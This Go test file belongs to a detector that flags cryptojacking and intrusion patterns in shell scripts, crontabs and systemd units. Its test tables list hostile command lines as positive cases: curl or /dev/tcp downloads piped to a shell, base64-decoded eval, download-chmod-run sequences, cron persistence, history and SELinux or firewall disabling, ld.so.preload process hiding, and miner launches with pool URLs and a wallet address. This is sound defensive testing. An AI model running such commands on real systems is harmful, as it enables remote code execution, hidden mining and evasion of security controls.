package hierarchical

import (
	"fmt"
	"io/fs"
	"os"
	"reflect"
	"sort"
	"strings"
	"testing"
)

func TestRuleTable(t *testing.T) {
	for _, r := range Rules() {
		if r.Rationale == "" || r.Source == "" || r.Category == "" || r.Signal == "" {
			t.Errorf("%s: rationale, source, category and signal are required", r.ID)
		}
		if (r.Signal == SignalNotScanned) != (r.Category == "not-scanned") {
			t.Errorf("%s: only not-scanned rules are always on", r.ID)
		}
		if r.Cap < r.Weight {
			t.Errorf("%s: cap %v below weight %v", r.ID, r.Cap, r.Weight)
		}
		// No single kind of evidence may decide alone.
		if r.Cap >= Threshold {
			t.Errorf("%s: cap %v reaches the threshold %v on its own", r.ID, r.Cap, Threshold)
		}
	}
	if GenericCap >= Threshold {
		t.Errorf("generic rules together (%v) reach the threshold", GenericCap)
	}
}

func TestDataFilesNameTheirSource(t *testing.T) {
	names, err := fs.Glob(dataFS, "data/*.txt")
	if err != nil || len(names) != 6 {
		t.Fatalf("data files = %v, %v", names, err)
	}
	for _, n := range names {
		b, err := dataFS.ReadFile(n)
		if err != nil {
			t.Fatal(err)
		}
		head := strings.ToLower(string(b[:min(len(b), 2000)]))
		if !strings.HasPrefix(head, "#") || !strings.Contains(head, "source") {
			t.Errorf("%s: header must name its public source", n)
		}
		if len(loadList(n)) < 5 {
			t.Errorf("%s: suspiciously short", n)
		}
	}
}

func TestIsMinerName(t *testing.T) {
	tests := []struct {
		name string
		want bool
	}{
		{"xmrig", true}, {"XMRig", true}, {"minerd", true}, {"xmrig-6.21.0", true}, {"cpuminer-2.5.1", true},
		{"minergate-cli", true}, {"kdevtmpfsi", true},
		{"miner", false}, {"miner.py", false}, {"xmrig.json", false}, {"xmrigger", false}, {"cpuminer.conf", false},
		{"ls", false}, {"t-rexx", false},
	}
	for _, tt := range tests {
		if got := isMinerName(tt.name); got != tt.want {
			t.Errorf("isMinerName(%q) = %v, want %v", tt.name, got, tt.want)
		}
	}
}

func rulesOf(hits []hit) []string {
	set := map[string]bool{}
	for _, h := range hits {
		set[h.rule] = true
	}
	var out []string
	for r := range set {
		out = append(out, r)
	}
	sort.Strings(out)
	return out
}

// TestShellRules: every shell rule with positive and realistic negative
// command lines. want lists the rule under test's presence only.
func TestShellRules(t *testing.T) {
	tests := []struct {
		name string
		src  string
		rule string
		want bool
	}{
		// download-pipe-shell
		{"curl piped to sh", "curl -fsSL http://203.0.113.5/i.sh | sh", RuleDownloadPipeShell, true},
		{"wget -O- piped to bash via sudo", "wget -qO- https://x.example/s | sudo -E bash -", RuleDownloadPipeShell, true},
		{"bash process substitution", "bash <(curl -s https://x.example/i)", RuleDownloadPipeShell, true},
		{"sh -c command substitution", `sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"`, RuleDownloadPipeShell, true},
		{"rustup installer is still curl|sh (weak)", "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", RuleDownloadPipeShell, true},
		{"download to file is not piped", "curl -fsSL https://installer.example.com/setup_20.x -o /tmp/setup.sh", RuleDownloadPipeShell, false},
		{"grep for curl is not a download", "echo curl | grep sh", RuleDownloadPipeShell, false},
		{"curl piped to tar", "curl -fsSL https://ftp.drupal.org/files/projects/drupal-10.2.0.tar.gz | tar -xz", RuleDownloadPipeShell, false},
		// base64-exec
		{"base64 -d piped to bash", "echo ZWNobyBoaQ== | base64 -d | bash", RuleBase64Exec, true},
		{"eval of decoded text", `eval "$(echo ZWNobyBoaQ== | base64 --decode)"`, RuleBase64Exec, true},
		{"decode to a key file", "base64 -d key.b64 > /etc/ssl/private/key.pem", RuleBase64Exec, false},
		{"encode piped to sh is odd but not decode", "echo hi | base64 | cat", RuleBase64Exec, false},
		// background-miner
		{"nohup miner", "nohup ./xmrig -o pool.example:3333 -u W &", RuleBackgroundMiner, true},
		{"backgrounded miner options", "./systemd-helper -a cryptonight -o stratum+tcp://203.0.113.9:3333 &", RuleBackgroundMiner, true},
		{"screen detached miner", "screen -dmS m /opt/minerd -o stratum+tcp://p.example:3333", RuleBackgroundMiner, true},
		{"nohup web app", "nohup python3 app.py > /var/log/app.log 2>&1 &", RuleBackgroundMiner, false},
		{"backgrounded server", "nginx -g 'daemon off;' &", RuleBackgroundMiner, false},
		// hugepages-msr
		{"sysctl hugepages", "sysctl -w vm.nr_hugepages=1280", RuleHugepagesMSR, true},
		{"proc hugepages", "echo 1280 > /proc/sys/vm/nr_hugepages", RuleHugepagesMSR, true},
		{"modprobe msr", "modprobe msr allow_writes=on", RuleHugepagesMSR, true},
		{"wrmsr", "wrmsr -a 0x1a4 0xf", RuleHugepagesMSR, true},
		{"other sysctl", "sysctl -w net.core.somaxconn=1024", RuleHugepagesMSR, false},
		{"other module", "modprobe overlay", RuleHugepagesMSR, false},
		// chmod-exec / download-chmod-exec
		{"chmod then run", "chmod +x ./install.sh && ./install.sh --prefix=/usr", RuleChmodExec, true},
		{"chmod without run", "chmod 755 /usr/local/bin/docker-entrypoint.sh", RuleChmodExec, false},
		{"non-exec chmod then run", "chmod 644 ./x && ./x", RuleChmodExec, false},
		{"download chmod run", "wget http://203.0.113.7/kk -O /tmp/kk; chmod 777 /tmp/kk; /tmp/kk", RuleDownloadChmodExec, true},
		{"curl -o chmod run", "curl -o /tmp/k https://x.example/k && chmod +x /tmp/k && /tmp/k -d", RuleDownloadChmodExec, true},
		{"download chmod no run", "curl -fsSLo /usr/local/bin/tini https://github.com/krallin/tini/releases/download/v0.19.0/tini && chmod +x /usr/local/bin/tini", RuleDownloadChmodExec, false},
		// kill-competitors
		{"pkill miner", "pkill -f xmrig", RuleKillCompetitors, true},
		{"killall minerd", "killall -9 minerd", RuleKillCompetitors, true},
		{"kill by pgrep", "kill -9 $(pgrep kdevtmpfsi)", RuleKillCompetitors, true},
		{"pgrep only checks whether a miner runs", "pgrep -x xmrig >/dev/null || echo not running", RuleKillCompetitors, false},
		{"grep kill pipeline", "ps aux | grep -v grep | grep cryptonight | awk '{print $2}' | xargs kill -9", RuleKillCompetitors, true},
		{"reload rsyslog", "killall -HUP rsyslogd", RuleKillCompetitors, false},
		{"stop gunicorn", "pkill -f gunicorn", RuleKillCompetitors, false},
		{"grep kill of a web server", "ps aux | grep nginx | awk '{print $2}' | xargs kill", RuleKillCompetitors, false},
		// defense-evasion
		{"history -c", "history -c", RuleDefenseEvasion, true},
		{"ufw disable", "ufw disable", RuleDefenseEvasion, true},
		{"setenforce 0", "setenforce 0", RuleDefenseEvasion, true},
		{"chattr +i", "chattr +i /etc/cron.d/root", RuleDefenseEvasion, true},
		{"unset HISTFILE", "unset HISTFILE", RuleDefenseEvasion, true},
		{"HISTFILE to null", "export HISTFILE=/dev/null", RuleDefenseEvasion, true},
		{"stop apparmor", "systemctl stop apparmor", RuleDefenseEvasion, true},
		{"ld.so.preload hider", "echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload", RuleDefenseEvasion, true},
		{"ld.so.preload by tee", "echo /usr/lib/x.so | tee -a /etc/ld.so.preload", RuleDefenseEvasion, true},
		{"reading ld.so.preload", "cat /etc/ld.so.preload", RuleDefenseEvasion, false},
		{"/dev/tcp fetch piped to bash", "exec 3<>/dev/tcp/203.0.113.9/80\nprintf 'GET /x.sh HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3 | sed '1,/^\\r$/d' | bash", RuleDownloadPipeShell, true},
		{"/dev/tcp from an IP", "exec 3<>/dev/tcp/203.0.113.9/80", RuleRawIPDownload, true},
		{"bash reads /dev/tcp", "bash < /dev/tcp/203.0.113.9/8080", RuleDownloadPipeShell, true},
		{"/dev/tcp health probe", "exec 3<>/dev/tcp/localhost/5432 && echo ok", RuleDownloadPipeShell, false},
		{"/dev/tcp probe of loopback is no download", "exec 3<>/dev/tcp/127.0.0.1/8080", RuleRawIPDownload, false},
		{"/dev/tcp probe to a name is no raw IP", "timeout 1 bash -c 'echo > /dev/tcp/db/5432'", RuleRawIPDownload, false},
		{"ufw allow", "ufw allow 22/tcp", RuleDefenseEvasion, false},
		{"stop nginx", "systemctl stop nginx", RuleDefenseEvasion, false},
		{"history of a repo", "git log --oneline | head", RuleDefenseEvasion, false},
		// run-miner
		{"run xmrig", "./xmrig --config=config.json", RuleRunMiner, true},
		{"run minerd via sudo", "sudo /usr/local/bin/minerd --help", RuleRunMiner, true},
		{"miner jar run by java -jar", "java -Xmx256m -jar /opt/miner/arionum-miner.jar pool http://aropool.com ADDR", RuleRunMiner, true},
		{"miner script run by python", "python3 -u /opt/xmrig.py --threads 2", RuleRunMiner, true},
		{"a jar named like a research tool", "java -jar /opt/maven-miner.jar -f coords.txt", RuleRunMiner, false},
		{"an application jar", "java -jar /opt/app/billing-service-2.3.1.jar", RuleRunMiner, false},
		{"python -c is code, not a script name", "python3 -c 'print(1)' xmrig.py", RuleRunMiner, false},
		{"zcashd -gen", "zcashd -gen -datadir=/data", RuleNodeMining, true},
		{"zcashd run normally", "zcashd -datadir=/data -printtoconsole", RuleNodeMining, false},
		{"clone is not run", "git clone https://github.com/xmrig/xmrig && cd xmrig && mkdir build", RuleRunMiner, false},
		{"apt install of an unrelated package", "apt-get install -y --no-install-recommends libcurl4-openssl-dev libjansson-dev", RuleRunMiner, false},
		// miner-repo from any host (git clone); the text rule covers the forges
		{"clone of a miner repo from a mirror", "git clone http://198.51.100.23:8080/mirror/OhGodAPet/cpuminer-multi.git /src", RuleMinerRepo, true},
		{"clone of a miner repo, scp-like", "git clone git@git.example.org:ops/xmrig.git", RuleMinerRepo, true},
		{"clone of a miner repo without .git", "git clone --depth 1 https://git.example.org/forks/xmrig", RuleMinerRepo, true},
		{"clone of another repo", "git clone https://git.example.org/ops/xmrig-docs.git", RuleMinerRepo, false},
		{"clone into a directory named like a miner", "git clone https://git.example.org/ops/tools.git xmrig", RuleMinerRepo, false},
		{"a miner repo URL echoed, not cloned", "echo https://git.example.org/forks/xmrig.git", RuleMinerRepo, false},
		// raw-ip-download
		{"wget from raw IP", "wget http://203.0.113.35/x.sh", RuleRawIPDownload, true},
		{"curl from raw IP with port", "curl -s http://203.0.113.4:8080/p -o p", RuleRawIPDownload, true},
		{"download from a host name", "curl -fsSL https://mirror.example.org/debian/dists/bookworm/Release", RuleRawIPDownload, false},
		{"echo of an IP URL", "echo http://192.0.2.4/", RuleRawIPDownload, false},
		{"not an IP", "curl http://999.198.51.100.7/x", RuleRawIPDownload, false},
		// miner-options
		{"cpuminer algo", "./a.out -a cryptonight -o x:1", RuleMinerOptions, true},
		{"xmrig algo equals", "/opt/app --algo=rx/0 --url x:1", RuleMinerOptions, true},
		{"donate level", "/opt/app --donate-level 1", RuleMinerOptions, true},
		{"lolMiner algo", "./lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user 0x1111111111111111111111111111111111111111.rig", RuleMinerOptions, true},
		{"T-Rex algo", "t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RWALLET.rig -p x", RuleMinerOptions, true},
		{"octopus as a word", "echo octopus --algo-free", RuleMinerOptions, false},
		{"tar -a", "tar -a -cf backup.tar.gz /srv", RuleMinerOptions, false},
		{"openssl -a", "openssl enc -a -d -in x.b64", RuleMinerOptions, false},
		// stratum / pool / repo / wallet on command lines
		{"stratum url", "minerd -o stratum+tcp://xmr.pool.minergate.com:45560 -u a@b.c -p x", RuleStratumURL, true},
		{"pool domain", "xmrig -o pool.supportxmr.com:3333", RulePoolDomain, true},
		{"miner port with miner", "xmrig -o 203.0.113.9:14444", RuleMinerPort, true},
		{"port 8080 without a miner", "java -jar app.jar -o http://localhost:8080", RuleMinerPort, false},
		{"miner repo clone", "git clone https://github.com/OhGodAPet/cpuminer-multi", RuleMinerRepo, true},
		{"miner release download", "curl -L https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz", RuleMinerRepo, true},
		{"other repo clone", "git clone --recursive https://github.com/monero-project/monero", RuleMinerRepo, false},
		{"wallet as user", "xmrig -o pool.example:3333 -u 44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5", RuleMoneroWallet, true},
		// persistence written by a script
		{"echo cron download", `echo "* * * * * root curl -fsSL http://203.0.113.7/x.sh | sh" >> /etc/crontab`, RulePersistenceFetch, true},
		{"crontab pipeline miner", `(crontab -l; echo "@reboot /tmp/.x/xmrig -o pool.supportxmr.com:3333") | crontab -`, RulePersistenceMiner, true},
		{"heredoc unit", "cat > /etc/systemd/system/m.service <<EOF\n[Service]\nExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json\nEOF", RulePersistenceMiner, true},
		{"echo logrotate cron", `echo "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf" >> /etc/crontab`, RulePersistenceMiner, false},
		{"echo logrotate cron fetch", `echo "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf" >> /etc/crontab`, RulePersistenceFetch, false},
		// fallback tokenizer still finds structure in text bash cannot parse
		{"unparsable text", "curl http://203.0.113.5/a | sh ; if then fi ((", RuleDownloadPipeShell, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := rulesOf(analyzeScript(parseShell(tt.src), false))
			has := false
			for _, r := range got {
				has = has || r == tt.rule
			}
			if has != tt.want {
				t.Errorf("%q: rule %s fired = %v, want %v (rules: %v)", tt.src, tt.rule, has, tt.want, got)
			}
		})
	}
}

func TestFindWallets(t *testing.T) {
	const w = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"primary address", "-u " + w + " -p x", []string{w}},
		{"address with worker suffix", w + ".worker1", []string{w}},
		{"inside a longer base64 token", "QUJD" + w + "+/AA", nil},
		{"wrong first char", "9" + w[1:], nil},
		{"not base58 (has 0)", w[:50] + "0" + w[51:], nil},
		{"pem line", "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJRTESMBAGA1UEChMJQmFsdGltb3Jl", nil},
	}
	for _, tt := range tests {
		if got := findWallets([]byte(tt.in), true, true); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%s: got %v, want %v", tt.name, got, tt.want)
		}
	}
}

func TestCronCommand(t *testing.T) {
	tests := []struct {
		line string
		user bool
		want string
	}{
		{"30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all", true, "test -e /run/systemd/system || /sbin/e2scrub_all"},
		{"*/5 * * * * curl -fsSL http://x/a | sh", false, "curl -fsSL http://x/a | sh"},
		{"@reboot root /tmp/xmrig", true, "/tmp/xmrig"},
		{"SHELL=/bin/sh", true, ""},
		{"# m h dom mon dow user command", true, ""},
		{"curl http://x/a | sh", true, "curl http://x/a | sh"},
	}
	for _, tt := range tests {
		if got := cronCommand(tt.line, tt.user); got != tt.want {
			t.Errorf("cronCommand(%q) = %q, want %q", tt.line, got, tt.want)
		}
	}
}

func TestPersistenceKind(t *testing.T) {
	tests := []struct {
		path string
		want persistKind
	}{
		{"etc/crontab", persistSystemCron},
		{"etc/cron.d/e2scrub_all", persistSystemCron},
		{"var/spool/cron/crontabs/root", persistUserCron},
		{"etc/cron.daily/logrotate", persistScript},
		{"etc/rc.local", persistScript},
		{"etc/init.d/procps", persistScript},
		{"etc/profile.d/x.sh", persistScript},
		{"root/.bashrc", persistScript},
		{"lib/systemd/system/apt-daily.service", persistUnit},
		{"etc/systemd/system/multi-user.target.wants/m.service", persistUnit},
		{"usr/share/doc/cron/README", persistNone},
		{"etc/cron.d", persistNone},
		{"lib/systemd/system/apt-daily.timer", persistNone},
	}
	for _, tt := range tests {
		if got := persistenceKindOf(tt.path); got != tt.want {
			t.Errorf("persistenceKindOf(%q) = %v, want %v", tt.path, got, tt.want)
		}
	}
}

func TestEffective(t *testing.T) {
	tests := []struct {
		argv   []string
		want   []string
		wantBG bool
	}{
		{[]string{"nohup", "./xmrig", "-o", "x"}, []string{"./xmrig", "-o", "x"}, true},
		{[]string{"sudo", "-u", "root", "env", "A=b", "minerd"}, []string{"minerd"}, false},
		{[]string{"tini", "--", "/bin/minerd", "-a", "x"}, []string{"/bin/minerd", "-a", "x"}, false},
		{[]string{"screen", "-dmS", "m", "./x"}, []string{"./x"}, true},
		{[]string{"timeout", "-s", "KILL", "10", "app"}, []string{"app"}, false},
		{[]string{"apache2-foreground"}, []string{"apache2-foreground"}, false},
	}
	for _, tt := range tests {
		got, bg := effective(tt.argv)
		if !reflect.DeepEqual(got, tt.want) || bg != tt.wantBG {
			t.Errorf("effective(%q) = %q, %v; want %q, %v", tt.argv, got, bg, tt.want, tt.wantBG)
		}
	}
}

// TestREADMEListsEveryRule keeps detectors/README.md in step with rules.go.
func TestREADMEListsEveryRule(t *testing.T) {
	b, err := os.ReadFile("../README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range Rules() {
		row := fmt.Sprintf("| `%s` | %s | %s | %g | %g |", r.ID, r.Category, r.Signal, r.Weight, r.Cap)
		if !strings.Contains(string(b), row) {
			t.Errorf("README.md lacks the row %q", row)
		}
	}
}
